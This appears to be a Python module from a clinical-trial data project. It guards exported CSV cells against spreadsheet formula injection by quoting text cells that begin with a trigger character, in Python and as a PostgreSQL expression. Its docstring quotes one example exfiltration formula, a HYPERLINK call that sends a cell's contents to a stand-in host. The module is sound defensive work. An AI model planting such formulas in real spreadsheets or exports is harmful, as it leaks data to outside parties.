"""Spreadsheet formula injection: the one rule every CSV this project writes follows
(docs/BLINDING.md "CSV cells"; OWASP "CSV Injection").

A spreadsheet opening a CSV runs a text cell that starts with `=`, `+`, `-` or `@` as a formula (a
free-text AE term `=HYPERLINK("http://x/?"&A1,"click")` would send the row elsewhere), and some also
strip a leading tab or carriage return and then do the same. So a *text* cell starting with one of
those characters is written with a leading apostrophe `'`, which every spreadsheet shows as text and
never evaluates. Numbers are never touched: a value passed as int/float/Decimal is written as it is,
and a text cell that is exactly a plain decimal number (`-1.5`, `+3`, `-2e-3`) stays as it is, because
a spreadsheet reads it as that number, not as a formula.

Pure Python, no Django: the dataset writers, the statistician API, the audit-trail CSV and the
allocation list download all call `safe_cell`/`safe_row`; a writer that builds CSV in PostgreSQL
(COPY) uses `sql_safe_text(column)`, which is the same rule in SQL (the tests run both on the same cells).
"""
import re
from collections.abc import Iterable

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# A plain decimal number as a spreadsheet reads it: sign, digits with an optional point, optional exponent.
NUMBER = r"^[+-]?([0-9]+([.][0-9]*)?|[.][0-9]+)([eE][+-]?[0-9]+)?$"
_NUMBER = re.compile(NUMBER.replace("$", r"\Z"))


def safe_cell(value):
    """`value` as it may go into a CSV cell: text starting with a trigger gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.match(value):
        return QUOTE + value
    return value


def safe_row(values: Iterable) -> list:
    return [safe_cell(v) for v in values]


def sql_safe_text(column_sql: str) -> str:
    """The same rule as a PostgreSQL expression over a text expression `column_sql`."""
    # "-" last in the bracket: anywhere else it would make a range (in an E'' string "\-" is a plain "-",
    # and "+-@" would then admit every digit).
    triggers = "".join({"\t": "\\t", "\r": "\\r"}.get(c, c) for c in TRIGGERS if c != "-") + "-"
    return (f"CASE WHEN {column_sql} ~ E'^[{triggers}]' AND {column_sql} !~ '{NUMBER}' "
            f"THEN '{QUOTE}{QUOTE}' || {column_sql} ELSE {column_sql} END")
